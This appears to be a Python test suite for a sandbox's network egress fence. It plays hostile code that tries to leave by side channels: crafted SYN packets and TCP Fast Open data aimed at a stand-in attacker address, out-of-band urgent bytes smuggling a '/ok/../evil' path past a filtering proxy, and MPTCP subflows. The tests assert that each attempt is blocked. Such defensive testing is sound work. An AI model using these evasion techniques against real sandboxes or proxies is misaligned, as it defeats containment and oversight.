# SPDX-License-Identifier: Apache-2.0
"""Ways out that are neither a frame's bytes nor a request's words: what a kernel is told beside the frame (checksums and segments
that are left to it, marks), and what TCP carries beside its stream."""
import fence_frames
import test_exfiltration
from fence_frames import DIVERT_MARKS
from lab import DNS4, EVIL4, HOST4, HOST6, ORIGIN4, ORIGIN6
from scapy.layers.inet import TCP
from support import HTTP, policy
from test_exfiltration import Hostile as _Hostile, Watch

class Beside(_Hostile):
    def test_offloads(self):
        box = self.sandbox(policy("https://api.lab.test", "udp://udp.lab.test:1234"), user="root")
        test_exfiltration.battery(box)  # learns this sandbox's addresses
        frames = fence_frames.offloads((EVIL4, ORIGIN4, HOST4, fence_frames.GATE4), (ORIGIN6, fence_frames.GATE6))
        with Watch() as watch:
            sent = self.hostile(box, "offloads", "eth0", *map(str, DIVERT_MARKS), input=test_exfiltration.as_input(frames))
        self.assertGreater(sent, len(frames) // 4)  # newer kernels do not take an offset where no checksum can be
        self.assert_silent(watch)
        self.assertIn("/after", box.sh("curl -sS https://api.lab.test/after").out)

    def test_what_tcp_carries_beside_its_stream(self):
        """Urgent bytes, data in the first packet, subflows, options: the proxy judges what it sends on."""
        box = self.sandbox(policy("{to: http://plain.lab.test, paths: [/ok/**]}"), user="root")
        test_exfiltration.battery(box)
        f = fence_frames
        options = [[(34, b""), ("MSS", 1400)], [(34, b"12345678")], [(30, bytes(10))], [(19, bytes(16))], [(29, bytes(14))], [(253, b"VGLEAK")]]
        syns = [f.ip4(TCP(sport=4000 + i, dport=80, flags="S", options=o) / f.MARK, a)
                for a in (ORIGIN4, EVIL4) for i, o in enumerate(options)]
        with Watch() as watch:
            self.hostile(box, "frames", "eth0", input=test_exfiltration.as_input(syns))
            done = box.py("""
import hostile
def urgent(parts, host='plain.lab.test'):
    s = connect(host, 80, 5)
    for part, flags in parts:
        s.send(part, flags)
        time.sleep(0.05)
    s.settimeout(5)
    return read_all(s)[:12].decode('latin-1')
rest = b' HTTP/1.1\\r\\nHost: plain.lab.test\\r\\nConnection: close\\r\\n\\r\\n'
def early(to):
    s = socket.socket()
    s.settimeout(2)
    s.sendto(b'GET /evil' + rest, 0x20000000, (to, 80))
    return read_all(s)[:12].decode('latin-1')
def subflows(to):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(5)
    s.connect((to, 80))
    s.sendall(b'GET /evil' + rest)
    return read_all(s)[:12].decode('latin-1')
at = socket.gethostbyname('plain.lab.test')
print(json.dumps([hostile.attempt(w) for w in (
    lambda: urgent([(b'GET /ok/a', 0), (b'X', socket.MSG_OOB), (b'b' + rest, 0)]),
    lambda: urgent([(b'GET /', 0), (b'o', socket.MSG_OOB), (b'k/../evil' + rest, 0)]),
    lambda: urgent([(b'GET /evil', 0), (rest[:1], socket.MSG_OOB), (rest[1:], 0)]),
    lambda: early(at), lambda: early('""" + EVIL4 + """'), lambda: subflows(at), lambda: subflows('""" + EVIL4 + """'))]))""")
        self.assertEqual([r[0] for r in done.json()], ["HTTP/1.1 200", "HTTP/1.1 403", "HTTP/1.1 400", "EINPROGRESS", "EINPROGRESS", "HTTP/1.1 403",
                                                       "HTTP/1.1 403"], done)
        # The urgent byte is in neither.
        self.assertEqual([r["path"] for r in self.seen("http")], ["/ok/ab"])
        self.assertIsNotNone(box.event(HTTP, action_id=1, **{"http_request.url.path": "/ok/ab"}))
        self.assertEqual(watch.foreign(), [])
        for flow in watch.flows():
            self.assertIn(flow, [(17, HOST4, DNS4, 53), (6, HOST4, ORIGIN4, 80), (6, HOST6, ORIGIN6, 80)])
